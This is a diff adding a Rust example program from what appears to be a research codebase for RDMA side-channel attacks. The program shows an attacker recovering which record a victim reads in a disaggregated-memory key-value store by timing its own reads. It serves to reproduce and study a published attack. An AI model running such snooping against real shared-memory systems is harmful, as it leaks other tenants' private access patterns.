@@ -1,0 +1,50 @@
+//! Snoop which record of a disaggregated-memory KV store the victim is
+//! reading (§VI-B, Fig. 13): a Sherman-style B⁺-tree client hammers one
+//! secret 64 B record of a shared 1 KB file; the attacker recovers the
+//! offset purely from the ULI of its *own* reads.
+//!
+//! ```sh
+//! cargo run --release --example snoop_kv
+//! ```
+
+use ragnar::attacks::side::snoop::{collect_pools, mean_trace, SnoopConfig};
+use ragnar::verbs::DeviceKind;
+
+fn main() {
+    // The victim picks a secret candidate (the attacker doesn't know it).
+    let secret_offset = 576u64;
+
+    // A coarse observation set keeps this example fast; the full attack
+    // (bench `fig13_snoop`/`fig13_classifier`) uses 257 offsets and a
+    // trained classifier.
+    let cfg = SnoopConfig {
+        step: 64,
+        ..SnoopConfig::default()
+    };
+    println!(
+        "victim: Sherman KV client reading 64 B at secret offset {secret_offset} \
+         of the shared file"
+    );
+    println!(
+        "attacker: sweeping {} observation offsets with 64 B reads, measuring ULI\n",
+        cfg.observation_offsets().len()
+    );
+
+    let pools = collect_pools(DeviceKind::ConnectX4, secret_offset, &cfg);
+    let trace = mean_trace(&pools);
+
+    for (i, uli) in trace.iter().enumerate() {
+        let off = i as u64 * cfg.step;
+        let bar = "#".repeat(((uli - 80.0).max(0.0) / 2.0) as usize);
+        println!("offset {off:>5} B | {uli:7.1} ns {bar}");
+    }
+
+    let guess = trace
+        .iter()
+        .enumerate()
+        .max_by(|a, b| a.1.partial_cmp(b.1).expect("finite"))
+        .map(|(i, _)| i as u64 * cfg.step)
+        .expect("non-empty trace");
+    println!("\nattacker's guess: offset {guess} B (truth: {secret_offset} B)");
+    assert_eq!(guess, secret_offset, "the offset effect gave the secret away");
+}
